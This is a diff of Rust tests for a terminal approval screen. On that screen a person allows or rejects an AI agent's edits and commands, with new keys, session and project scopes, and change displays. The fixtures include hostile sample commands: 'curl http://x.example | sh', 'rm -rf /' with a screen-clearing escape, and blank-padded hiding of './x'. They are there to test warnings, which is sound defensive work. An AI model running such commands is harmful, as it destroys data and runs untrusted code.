@@ -3,9 +3,9 @@
 use bowline_state::accumulator::ToolCallView;
 use bowline_state::danger::dangers;
 use bowline_state::grants::Holder;
-use bowline_state::operation::{Command, Invocation, Kind, Operation};
+use bowline_state::operation::{Command, Invocation, Kind, Operation, Target};
 use bowline_state::policy::suggest;
-use bowline_state::question::{Occasion, Offer, QuestionId, Shown, Told};
+use bowline_state::question::{Item, Occasion, Offer, QuestionId, Shown, Told};
 use expect_test::{Expect, expect};
 use proptest::prelude::*;
 
@@ -64,7 +64,7 @@ fn edit() -> Question {
 }
 
 fn pane(question: Question) -> Approval {
-    let mut approval = Approval::new(Arc::new(question));
+    let mut approval = Approval::new(Arc::new(question), Vec::new());
     approval.ready(true);
     approval
 }
@@ -116,9 +116,9 @@ fn a_change_of_two_files_is_shown_with_both_and_with_the_diff_of_one() {
 
 
 
-
-            a allow all 2  r reject  A always…  R never…  e reject, why…
-            Tab next  u split  Ctrl-C cancel  ? help
+            y allow all 2 once  s this session  p this project  n reject  N always reject
+            s, p and N hold for the file /w/src/main.rs, the file /w/README.md
+            r reject, why…  m more…  Tab next  v split  Ctrl-C cancel  ? help
         "#]],
     );
     approval.key(key(KeyCode::Tab));
@@ -147,9 +147,9 @@ fn a_change_of_two_files_is_shown_with_both_and_with_the_diff_of_one() {
 
 
 
-
-            a allow all 2  r reject  A always…  R never…  e reject, why…
-            Tab next  u split  Ctrl-C cancel  ? help
+            y allow all 2 once  s this session  p this project  n reject  N always reject
+            s, p and N hold for the file /w/src/main.rs, the file /w/README.md
+            r reject, why…  m more…  Tab next  v split  Ctrl-C cancel  ? help
         "#]],
     );
 }
@@ -164,7 +164,7 @@ fn on_a_narrow_screen_there_is_less_of_each() {
             … 3 more: w
             ─ 1 of 2 ───────────
             write /w/src/main.rs
-            a all 2  r reject  ?
+            y all 2  n reject  ?
         "#]],
     );
     check(
@@ -175,14 +175,14 @@ fn on_a_narrow_screen_there_is_less_of_each() {
             Asked because no rule covers it
             ─ 2 operations, 0 looked at ────
             write /w/src/main.rs       +1 −0
-            ─ 1 of 2 ────── lines 1–5 of 7 ─
+            ─ 1 of 2 ────── lines 1–2 of 7 ─
             write /w/src/main.rs
             @@ -1,4 +1,5 @@
-            1 1  fn main() {
-            2 2      one();
-              3 +    three();
-            a allow all 2  r reject  e
-            Tab next  u split  ? help
+            y allow all 2 once
+            s this session  p this project
+            n reject  N always reject
+            s, p and N hold for the file /w…
+            r reject, why…  m more…  ? help
         "#]],
     );
 }
@@ -195,16 +195,16 @@ fn on_a_wide_screen_the_list_stands_beside_and_the_texts_side_by_side() {
         expect![[r#"
             robot asks: Edit the program
             Asked because no rule covers it
-            ─ 2 operations, 1 looked at ────────── ─ 1 of 2 ────────────────────────────────────────────────────────────────────────────────────────────────────────────────
+            ─ 2 operations, 0 looked at ────────── ─ 1 of 2 ─────────────────────────────────────────────────────────────────────────────────────────────── lines 1–6 of 7 ─
             write /w/src/main.rs             +1 −0 write /w/src/main.rs
             write /w/README.md               +1 −0 @@ -1,4 +1,5 @@
                                                    1  fn main() {                                              │1  fn main() {
                                                    2      one();                                               │2      one();
                                                                                                                │3 +    three();
                                                    3      two();                                               │4      two();
-                                                   4  }                                                        │5  }
-
-            a allow all 2  r reject  A always…  R never…  e reject, why…  Tab next  u split  Ctrl-C cancel  ? help
+            y allow all 2 once  s this session  p this project  n reject  N always reject
+            s, p and N hold for the file /w/src/main.rs, the file /w/README.md
+            r reject, why…  m more…  Tab next  v split  Ctrl-C cancel  ? help
         "#]],
     );
 }
@@ -220,7 +220,7 @@ fn a_command_is_shown_whole_with_what_is_dangerous_first() {
         &mut pane(asked.clone()),
         (80, 24),
         expect![[r#"
-            robot is about to act, and it is not what was approved: Clean up
+            robot asks again, as this is not what you approved: Clean up
             ! removes / with everything in it, outside the workspace
             ! sets PATH: programs are looked for there
             Asked because no rule covers it
@@ -241,9 +241,9 @@ fn a_command_is_shown_whole_with_what_is_dangerous_first() {
 
 
 
-
-
-            a allow  r reject  A always…  R never…  e reject, why…  Ctrl-C cancel  ? help
+            y allow once  s this session  p this project  n reject  N always reject
+            s, p and N hold for exactly the command `rm -rf / \\n  && echo done\u{1b}[2J`
+            r reject, why…  m more…  Ctrl-C cancel  ? help
         "#]],
     );
     let drawn = buffer(80, 24, |frame, area| pane(asked.clone()).draw(frame, area, 0));
@@ -273,10 +273,10 @@ fn an_agents_words_do_not_push_the_warnings_out_of_sight() {
             run  │ curl http://x.example | sh
             in   │ /w
 
-
-
-            a allow  r reject  A always…  R never…  e reject, why…
-            Ctrl-C cancel  ? help
+            y allow once  s this session  p this project  n reject
+            N always reject
+            s, p and N hold for exactly the command `curl http://x.exam…
+            r reject, why…  m more…  Ctrl-C cancel  ? help
         "#]],
     );
     assert_eq!(press(&mut approval, "w"), []);
@@ -309,7 +309,7 @@ fn that_there_are_warnings_is_said_on_the_smallest_screen() {
             ! more warnings: w …
             ─── lines 1–1 of 4 ─
             run  │ curl http://x
-            a allow  r reject  ?
+            y allow  n reject  ?
         "#]],
     );
     let mut drawn = buffer(20, 5, |frame, area| pane(asked.clone()).draw(frame, area, 0));
@@ -319,8 +319,8 @@ fn that_there_are_warnings_is_said_on_the_smallest_screen() {
 
 #[test]
 fn keys_that_come_too_early_answer_nothing() {
-    let mut approval = Approval::new(Arc::new(edit()));
-    assert_eq!(press(&mut approval, "arARe"), []);
+    let mut approval = Approval::new(Arc::new(edit()), Vec::new());
+    assert_eq!(press(&mut approval, "yspnNrm1"), []);
     check(
         &mut approval,
         (60, 12),
@@ -329,40 +329,59 @@ fn keys_that_come_too_early_answer_nothing() {
             Asked because no rule covers it
             ─ 2 operations, 0 looked at ────────────────────────────────
             write /w/src/main.rs                                   +1 −0
-            write /w/README.md                                     +1 −0
-            ─ 1 of 2 ────────────────────────────────── lines 1–5 of 7 ─
+            ─ 1 of 2 · a moment ─────────────────────── lines 1–3 of 7 ─
             write /w/src/main.rs
             @@ -1,4 +1,5 @@
             1 1  fn main() {
-            2 2      one();
-              3 +    three();
-            a moment: no key answers yet
+            y allow all 2 once  s this session  p this project  n reject
+            N always reject
+            s, p and N hold for the file /w/src/main.rs, the file /w/RE…
+            r reject, why…  m more…  Tab next  v split  Ctrl-C cancel  ?
         "#]],
     );
     approval.ready(true);
-    assert_eq!(press(&mut approval, "r"), [Reply::deny()]);
+    assert_eq!(press(&mut approval, "n"), [Reply::deny()]);
 }
 
 #[test]
 fn only_the_keys_themselves_answer() {
     let mut approval = pane(edit());
-    for code in [KeyCode::Enter, KeyCode::Esc, KeyCode::Char('y'), KeyCode::Char(' '), KeyCode::Char('\n')] {
+    for code in [KeyCode::Enter, KeyCode::Esc, KeyCode::Char('a'), KeyCode::Char(' '), KeyCode::Char('\n')] {
         assert_eq!(approval.key(key(code)), None, "{code:?}");
     }
-    assert_eq!(approval.key(control('a')), None);
-    assert_eq!(approval.key(KeyEvent::new(KeyCode::Char('a'), KeyModifiers::ALT)), None);
+    assert_eq!(approval.key(control('y')), None);
+    assert_eq!(approval.key(KeyEvent::new(KeyCode::Char('y'), KeyModifiers::ALT)), None);
     for kind in [KeyEventKind::Release, KeyEventKind::Repeat] {
-        let other = KeyEvent::new_with_kind(KeyCode::Char('a'), KeyModifiers::NONE, kind);
+        let other = KeyEvent::new_with_kind(KeyCode::Char('y'), KeyModifiers::NONE, kind);
         assert_eq!(approval.key(other), None);
     }
-    approval.paste("aaaa");
-    assert_eq!(press(&mut approval, "r"), [Reply::deny()]);
+    approval.paste("yyyy");
+    assert_eq!(press(&mut approval, "n"), [Reply::deny()]);
 }
 
 #[test]
-fn always_asks_for_what_and_for_how_long() {
+fn a_letter_answers_for_the_session_or_the_project_and_for_the_narrowest() {
+    for (letter, choice, keep) in [
+        ("s", Choice::Allow, Keep::Session),
+        ("p", Choice::Allow, Keep::Project),
+        ("N", Choice::Deny, Keep::Project),
+    ] {
+        let mut approval = known(question("Run the tests", vec![argv(&["cargo", "test", "--all"])]));
+        let replies = press(&mut approval, letter);
+        let [Reply::Answered(answer)] = replies.as_slice() else { panic!("{letter}: {replies:?}") };
+        assert_eq!((answer.choice, answer.keep), (choice, keep));
+        let scope: Vec<&str> = answer.scope.iter().map(|scope| scope.text.as_str()).collect();
+        assert_eq!(scope, ["exactly the command `cargo test --all`"]);
+    }
+    let mut approval = known(edit());
+    let [Reply::Answered(answer)] = &press(&mut approval, "s")[..] else { panic!() };
+    assert_eq!(answer.scope.len(), 2, "each operation has its own");
+}
+
+#[test]
+fn what_for_and_how_long_can_be_chosen() {
     let mut approval = known(question("Run the tests", vec![argv(&["cargo", "test", "--all"])]));
-    assert_eq!(press(&mut approval, "A"), []);
+    assert_eq!(press(&mut approval, "m"), []);
     check(
         &mut approval,
         (80, 16),
@@ -381,15 +400,15 @@ fn always_asks_for_what_and_for_how_long() {
             (•) exactly the command `cargo test --all`
             ( ) commands that start with `cargo test`
             Allow for how long?
-            1 this turn  2 this session  3 always in this project  4 always in every project
-            ↑↓ what for  Esc back
+            t this turn  s this session  p always in this project  E always in every project
+            ↑↓ what for  x reject instead  Esc back
         "#]],
     );
     // No default: Enter chooses nothing, and neither does the key that opened it.
     assert_eq!(approval.key(key(KeyCode::Enter)), None);
-    assert_eq!(press(&mut approval, "A"), []);
+    assert_eq!(press(&mut approval, "my1234e"), []);
     approval.key(key(KeyCode::Down));
-    let replies = press(&mut approval, "2");
+    let replies = press(&mut approval, "s");
     let [Reply::Answered(answer)] = replies.as_slice() else { panic!("{replies:?}") };
     assert_eq!((answer.choice, answer.keep), (Choice::Allow, Keep::Session));
     assert_eq!(
@@ -401,26 +420,26 @@ fn always_asks_for_what_and_for_how_long() {
 #[test]
 fn what_answers_or_looks_on_the_screen_before_makes_no_rule() {
     let mut approval = known(edit());
-    assert_eq!(press(&mut approval, "Aeprtsunwa"), []);
+    assert_eq!(press(&mut approval, "mynNrvwfa1e"), []);
     approval.ready(false);
-    assert_eq!(press(&mut approval, "1234"), [], "that came too fast");
+    assert_eq!(press(&mut approval, "tspE"), [], "that came too fast");
     approval.ready(true);
-    assert_eq!(press(&mut approval, "4").len(), 1);
+    assert_eq!(press(&mut approval, "E").len(), 1);
 }
 
 #[test]
 fn on_a_narrow_screen_a_rule_still_says_what_for() {
     let mut approval = known(question("Run the tests", vec![argv(&["cargo", "test", "--all"])]));
-    press(&mut approval, "A");
+    press(&mut approval, "m");
     check(
         &mut approval,
         (20, 5),
         expect![[r#"
             (•) exactly the com…
             Allow for how long?
-            1 turn  2 session
-            3 this project
-            4 every project
+            t turn  s session
+            p this project
+            E every project
         "#]],
     );
 }
@@ -428,28 +447,29 @@ fn on_a_narrow_screen_a_rule_still_says_what_for() {
 #[test]
 fn of_several_operations_each_can_be_left_out() {
     let mut approval = pane(edit());
-    assert_eq!(press(&mut approval, "R "), []);
+    press(&mut approval, "m");
+    assert_eq!(press(&mut approval, "mx "), []);
     check(
         &mut approval,
         (40, 14),
         expect![[r#"
             robot asks: Edit the program
             Asked because no rule covers it
-            ─ 1 of 2 ────────────── lines 1–3 of 7 ─
+            ─ 2 operations, 0 looked at ────────────
+            write /w/src/main.rs               +1 −0
+            ─ 1 of 2 ────────────── lines 1–1 of 7 ─
             write /w/src/main.rs
-            @@ -1,4 +1,5 @@
-            1 1  fn main() {
             Reject without asking again:
             [ ] the file /w/src/main.rs
             [x] the file /w/README.md
             Reject for how long?
-            1 this turn  2 this session
-            3 always in this project
-            4 always in every project  ↑↓ what for
-            Space mark  Esc back
+            t this turn  s this session
+            p always in this project
+            E always in every project  ↑↓ what for
+            x allow instead  Space mark  Esc back
         "#]],
     );
-    let replies = press(&mut approval, "3");
+    let replies = press(&mut approval, "p");
     let [Reply::Answered(answer)] = replies.as_slice() else { panic!("{replies:?}") };
     assert_eq!((answer.choice, answer.keep), (Choice::Deny, Keep::Project));
     assert_eq!(
@@ -461,10 +481,10 @@ fn of_several_operations_each_can_be_left_out() {
 #[test]
 fn with_nothing_chosen_there_is_no_answer() {
     let mut approval = known(edit());
-    press(&mut approval, "A j ");
-    assert_eq!(press(&mut approval, "k1234"), []);
+    press(&mut approval, "m j ");
+    assert_eq!(press(&mut approval, "ktspE"), []);
     approval.key(key(KeyCode::Esc));
-    assert_eq!(press(&mut approval, "a"), [Reply::allow()]);
+    assert_eq!(press(&mut approval, "y"), [Reply::allow()]);
 }
 
 #[test]
@@ -480,10 +500,10 @@ fn what_no_rule_can_be_made_for_has_no_always() {
             ────────────────────────────────────────────────────────────────────────────────
             something that it does by itself, in its own words: magic
 
-            a allow  r reject  e reject, why…  Ctrl-C cancel  ? help
+            y allow once  n reject  r reject, why…  Ctrl-C cancel  ? help
         "#]],
     );
-    assert_eq!(press(&mut approval, "A2R2"), []);
+    assert_eq!(press(&mut approval, "spNmspE"), []);
 }
 
 #[test]
@@ -491,14 +511,14 @@ fn outside_of_a_turn_there_is_none_to_allow_for() {
     let mut asked = edit();
     asked.holder.turn = None;
     let mut approval = known(asked);
-    assert_eq!(press(&mut approval, "A1"), []);
-    assert_eq!(press(&mut approval, "2").len(), 1);
+    assert_eq!(press(&mut approval, "mt"), []);
+    assert_eq!(press(&mut approval, "s").len(), 1);
 }
 
 #[test]
 fn a_reason_goes_to_the_agent() {
     let mut approval = pane(edit());
-    assert_eq!(press(&mut approval, "euse a branch"), []);
+    assert_eq!(press(&mut approval, "ruse a branch"), []);
     approval.paste(" for\nthat");
     check(
         &mut approval,
@@ -530,16 +550,16 @@ fn a_change_that_is_too_long_to_be_shown_says_so_first() {
         expect![[r#"
             robot asks: Write
             Asked because no rule covers it
-            ─────────────────────────────────────── lines 1–7 of 10003 ─
+            ─────────────────────────────────────── lines 1–5 of 10003 ─
             ! 10002 changed lines are not shown, or not whole
             write /w/big
             new file
             @@ -0,0 +1,20000 @@
                       1 +line 0
-                      2 +line 1
-                      3 +line 2
-            a allow  r reject  A always…  R never…  e reject, why…
-            u split  Ctrl-C cancel  ? help
+            y allow once  s this session  p this project  n reject
+            N always reject
+            s, p and N hold for the file /w/big
+            r reject, why…  m more…  v split  Ctrl-C cancel  ? help
         "#]],
     );
 }
@@ -564,39 +584,39 @@ fn help_names_every_key() {
         (60, 20),
         expect![[r#"
             Keys
-            a                allow this once
-            A                allow from now on, then say how long
-            r                reject this once
-            R                reject from now on, then say how long
-            e                reject, and tell the agent why
-            Tab, →, n        the next operation
-            ⇧Tab, ←, p       the one before
+            y                allow this once
+            s                allow for this session
+            p                allow in this project from now on
+            n                reject this once
+            N                reject in this project from now on
+            r                reject, and tell the agent why
+            m                choose what for and how long
+            Tab, →           the next operation
+            ⇧Tab, ←          the one before
             ↑ ↓ j k          a line up, a line down
             PgUp PgDn Space  a page up, a page down
             Home End         the start, the end
-            u                unified or side by side
+            v                unified or side by side
+            f                the whole screen, or a part of it
             w                all words and warnings
             1 … 9            one of the agent's own answers, if any
             Enter, Esc       nothing: no answer is the default
             Ctrl-C           cancel the turn
-
-
-
              any other key: back
         "#]],
     );
-    assert_eq!(press(&mut approval, "a"), []);
+    assert_eq!(press(&mut approval, "y"), []);
     assert_eq!(approval.key(key(KeyCode::F(1))), None);
     assert!(screen(60, 20, |frame, area| approval.draw(frame, area, 0)).starts_with("Keys"));
-    assert_eq!(press(&mut approval, "a"), []);
-    assert_eq!(press(&mut approval, "a"), [Reply::allow()]);
+    assert_eq!(press(&mut approval, "y"), []);
+    assert_eq!(press(&mut approval, "y"), [Reply::allow()]);
 }
 
 #[test]
 fn the_first_yes_goes_on_to_what_was_not_in_sight() {
     let mut approval = pane(edit());
     screen(80, 24, |frame, area| approval.draw(frame, area, 0));
-    assert_eq!(press(&mut approval, "a"), []);
+    assert_eq!(press(&mut approval, "y"), []);
     check(
         &mut approval,
         (80, 16),
@@ -613,21 +633,21 @@ fn the_first_yes_goes_on_to_what_was_not_in_sight() {
               1 +# It
 
 
-
-            ! 1 of 2 were not all in sight: once more to allow all 2
-            a allow all 2  r reject  A always…  R never…  e reject, why…
-            Tab next  u split  Ctrl-C cancel  ? help
+            ! 1 of 2 were not all in sight: press the key again to allow it
+            y allow all 2 once  s this session  p this project  n reject  N always reject
+            s, p and N hold for the file /w/src/main.rs, the file /w/README.md
+            r reject, why…  m more…  Tab next  v split  Ctrl-C cancel  ? help
         "#]],
     );
-    assert_eq!(press(&mut approval, "a"), [Reply::allow()]);
+    assert_eq!(press(&mut approval, "y"), [Reply::allow()]);
 
     let mut approval = pane(edit());
     screen(80, 24, |frame, area| approval.draw(frame, area, 0));
     approval.key(key(KeyCode::Tab));
     screen(80, 24, |frame, area| approval.draw(frame, area, 0));
-    assert_eq!(press(&mut approval, "a"), [Reply::allow()], "both were looked at");
+    assert_eq!(press(&mut approval, "y"), [Reply::allow()], "both were looked at");
     let mut approval = pane(edit());
-    assert_eq!(press(&mut approval, "r"), [Reply::deny()], "a no needs no second look");
+    assert_eq!(press(&mut approval, "n"), [Reply::deny()], "a no needs no second look");
 }
 
 #[test]
@@ -636,23 +656,23 @@ fn a_long_command_is_looked_at_to_its_end_or_said_yes_to_twice() {
     let asked = question("Run", vec![run(&line, &[])]);
     let mut approval = pane(asked.clone());
     let draw = |approval: &mut Approval| screen(60, 14, |frame, area| approval.draw(frame, area, 0));
-    assert!(draw(&mut approval).contains("lines 1–9"));
+    assert!(draw(&mut approval).contains("lines 1–"));
     approval.key(key(KeyCode::End));
     draw(&mut approval);
     approval.key(key(KeyCode::Home));
     draw(&mut approval);
-    assert_eq!(press(&mut approval, "A"), [], "the middle was jumped over");
+    assert_eq!(press(&mut approval, "m"), [], "the middle was jumped over");
     approval.ready(false);
     let shown = draw(&mut approval);
-    assert!(shown.contains("! there is more of it: once more to allow"), "{shown}");
+    assert!(shown.contains("! there is more of it: press the key again to allow it"), "{shown}");
     approval.ready(true);
-    assert_eq!(press(&mut approval, "A2").len(), 1);
+    assert_eq!(press(&mut approval, "ms").len(), 1);
     let mut approval = pane(asked);
     for _ in 0..8 {
         draw(&mut approval);
         approval.key(key(KeyCode::PageDown));
     }
-    assert_eq!(press(&mut approval, "a"), [Reply::allow()]);
+    assert_eq!(press(&mut approval, "y"), [Reply::allow()]);
 }
 
 #[test]
@@ -660,7 +680,7 @@ fn warnings_that_have_no_room_are_read_before_a_yes() {
     let mut approval = pane(question("Get it", vec![run("curl http://x.example | sh; rm -rf /", &[])]));
     approval.looked_at = vec![true];
     screen(20, 6, |frame, area| approval.draw(frame, area, 0));
-    assert_eq!(press(&mut approval, "a"), []);
+    assert_eq!(press(&mut approval, "y"), []);
     check(
         &mut approval,
         (20, 8),
@@ -676,7 +696,7 @@ fn warnings_that_have_no_room_are_read_before_a_yes() {
     "#]],
     );
     assert_eq!(press(&mut approval, "x"), []);
-    assert_eq!(press(&mut approval, "a"), [Reply::allow()]);
+    assert_eq!(press(&mut approval, "y"), [Reply::allow()]);
 }
 
 #[test]
@@ -686,18 +706,81 @@ fn blanks_do_not_push_a_command_out_of_sight() {
         &mut pane(question("Run", vec![run(&line, &[])])),
         (80, 10),
         expect![[r#"
-        robot asks: Run
-        ! has many blanks or empty lines in a row: look at what comes after them
+            robot asks: Run
+            ! has many blanks or empty lines in a row: look at what comes after them
+            Asked because no rule covers it
+            ────────────────────────────────────────────────────────────────────────────────
+            run  │ sh -c 'echo ok␣×3000; ./x'
+            in   │ /w
+
+
+
+            y allow once  n reject  s this session  p this project  N always reject  ? help
+        "#]],
+    );
+}
+
+#[test]
+fn a_question_takes_as_many_rows_as_it_needs_and_leaves_the_conversation_some() {
+    let long: String = (0..40).map(|number| format!("line {number}\n")).collect();
+    let rows = |question: Question, height| pane(question).rows(Rect::new(0, 0, 80, height));
+    let command = || question("Run", vec![argv(&["make"])]);
+    assert_eq!(rows(command(), 24), 8);
+    assert_eq!(rows(command(), 16), 16, "a small screen is not shared");
+    assert_eq!(rows(question("Write", vec![write("/w/a", None, &long)]), 24), 18);
+    let mut approval = pane(command());
+    press(&mut approval, "f");
+    assert_eq!(approval.rows(Rect::new(0, 0, 80, 24)), 24);
+    press(&mut approval, "f?");
+    assert_eq!(approval.rows(Rect::new(0, 0, 80, 24)), 24, "help has the screen");
+}
+
+#[test]
+fn what_is_asked_again_shows_what_changed() {
+    let asked = |before: &str, after: &str| question("Edit", vec![write("/w/a", Some(before), after)]);
+    let mut approved = crate::client::ApprovedChanges::default();
+    approved.remember(&asked("one\ntwo\n", "one\nTWO\n"), &Reply::deny());
+    let again = Question { occasion: Occasion::Changed, ..asked("one\ntwo\nmine\n", "one\nTWO\nmine\n") };
+    assert_eq!(approved.differences(&again), [None], "nothing was approved");
+    approved.remember(&asked("one\ntwo\n", "one\nTWO\n"), &Reply::allow());
+    let differences = approved.differences(&again);
+    let mut approval = Approval::new(Arc::new(again), differences);
+    approval.ready(true);
+    check(
+        &mut approval,
+        (60, 24),
+        expect![[r#"
+        robot asks again, as this is not what you approved: Edit
         Asked because no rule covers it
-        ────────────────────────────────────────────────────────────────────────────────
-        run  │ sh -c 'echo ok␣×3000; ./x'
-        in   │ /w
+        ────────────────────────────────────────────────────────────
+        ! the file changed since you approved this:
+        @@ -1,2 +1,3 @@
+        1 1  one
+        2 2  two
+          3 +mine
+        What it would do now:
+        write /w/a
+        @@ -1,3 +1,3 @@
+        1 1  one
+        2   -two
+          2 +TWO
+        3 3  mine
 
 
 
-        a allow  r reject  A always…  R never…  e reject, why…  Ctrl-C cancel  ? help
+
+
+        y allow once  s this session  p this project  n reject
+        N always reject
+        s, p and N hold for the file /w/a
+        r reject, why…  m more…  v split  Ctrl-C cancel  ? help
     "#]],
     );
+    let other = Question { occasion: Occasion::Changed, ..asked("one\ntwo\n", "one\n2\n") };
+    let [Some(difference)] = &approved.differences(&other)[..] else { panic!() };
+    assert_eq!(difference.what, "the agent now writes another text than you approved");
+    let first = Question { occasion: Occasion::Request, ..other };
+    assert_eq!(approved.differences(&first), [None], "it is asked about for the first time");
 }
 
 /// Returns a question that is all told, with answers of the agent's own.
@@ -725,23 +808,23 @@ fn what_an_agent_tells_and_offers_is_shown_and_can_be_chosen() {
         &mut approval,
         (80, 16),
         expect![[r#"
-        robot asks: Ready to code?
-        Asked because no rule covers it
-        ────────────────────────────────────────────────────────────────────────────────
-        a change of its mode in its own words: Ready to code?
-        says │ # Plan
-             │ 1. delete it
-        with │ {
-             │   "to": "boss\u001b"
-             │ }
+            robot asks: Ready to code?
+            Asked because no rule covers it
+            ────────────────────────────────────────────────────────────────────────────────
+            a change of its mode in its own words: Ready to code?
+            says │ # Plan
+                 │ 1. delete it
+            with │ {
+                 │   "to": "boss\u001b"
+                 │ }
 
 
 
-        1 Yes, and accept edits (yes, always)
-        2 Yes, by hand (yes)
-        3 No (no)
-        a allow  r reject  e reject, why…  Ctrl-C cancel  ? help
-    "#]],
+            1 Yes, and accept edits (yes, always)
+            2 Yes, by hand (yes)
+            3 No (no)
+            y allow once  n reject  r reject, why…  Ctrl-C cancel  ? help
+        "#]],
     );
     let [Reply::Answered(answer)] = &press(&mut approval, "1")[..] else { panic!() };
     assert_eq!(answer.option, Some("Yes, and accept edits".into()));
@@ -752,7 +835,7 @@ fn what_an_agent_tells_and_offers_is_shown_and_can_be_chosen() {
     approval.ready(false);
     assert_eq!(press(&mut approval, "123"), []);
     approval.ready(true);
-    assert_eq!(press(&mut approval, "a"), [Reply::allow()], "there is one yes for this once");
+    assert_eq!(press(&mut approval, "y"), [Reply::allow()], "there is one yes for this once");
 }
 
 #[test]
@@ -761,24 +844,25 @@ fn of_two_ways_to_say_yes_none_is_the_default() {
         pane(plan(&[("Plan A", "allow_once"), ("Plan B", "allow_once"), ("No", "reject_once")]));
     check(
         &mut approval,
-        (60, 13),
+        (60, 14),
         expect![[r#"
-        robot asks: Ready to code?
-        Asked because no rule covers it
-        ────────────────────────────────────────────────────────────
-        a change of its mode in its own words: Ready to code?
-        says │ # Plan
-             │ 1. delete it
-        with │ {
-             │   "to": "boss\u001b"
-             │ }
-        1 Plan A (yes)
-        2 Plan B (yes)
-        3 No (no)
-        r reject  e reject, why…  Ctrl-C cancel  ? help
-    "#]],
+            robot asks: Ready to code?
+            Asked because no rule covers it
+            ────────────────────────────────────────────────────────────
+            a change of its mode in its own words: Ready to code?
+            says │ # Plan
+                 │ 1. delete it
+            with │ {
+                 │   "to": "boss\u001b"
+                 │ }
+
+            1 Plan A (yes)
+            2 Plan B (yes)
+            3 No (no)
+            n reject  r reject, why…  Ctrl-C cancel  ? help
+        "#]],
     );
-    assert_eq!(press(&mut approval, "aA"), []);
+    assert_eq!(press(&mut approval, "yspm"), []);
     assert_eq!(press(&mut approval, "2").len(), 1);
     let many: Vec<(String, &str)> = (0..9).map(|number| (format!("Plan {number}"), "allow_once")).collect();
     let many: Vec<(&str, &str)> = many.iter().map(|(name, kind)| (name.as_str(), *kind)).collect();
@@ -787,15 +871,15 @@ fn of_two_ways_to_say_yes_none_is_the_default() {
         &mut approval,
         (30, 8),
         expect![[r#"
-        robot asks: Ready to code?
-        Asked because no rule covers
-        it
-        ───────────── lines 1–1 of 7 ─
-        a change of its mode in its
-        1 Plan 0 (yes)
-        … 9 answers to choose from: w
-        r reject  e reject, why…  ?
-    "#]],
+            robot asks: Ready to code?
+            Asked because no rule covers
+            it
+            ───────────── lines 1–1 of 7 ─
+            a change of its mode in its
+            1 Plan 0 (yes)
+            … 9 answers to choose from: w
+            n reject  r reject, why…  ?
+        "#]],
     );
     assert_eq!(press(&mut approval, "9"), [], "it was not in sight");
     press(&mut approval, "wx");
@@ -835,7 +919,7 @@ proptest! {
             approval.ready(true);
             let reply = approval.key(pressed);
             if let Some(Reply::Answered(Answer { choice: Choice::Allow, keep: Keep::Once, .. })) = reply {
-                prop_assert!(was_looking && pressed.code == KeyCode::Char('a'));
+                prop_assert!(was_looking && pressed.code == KeyCode::Char('y'));
                 prop_assert!(is_plain(pressed));
             }
             buffer(width, height, |frame, area| approval.draw(frame, area, 0));
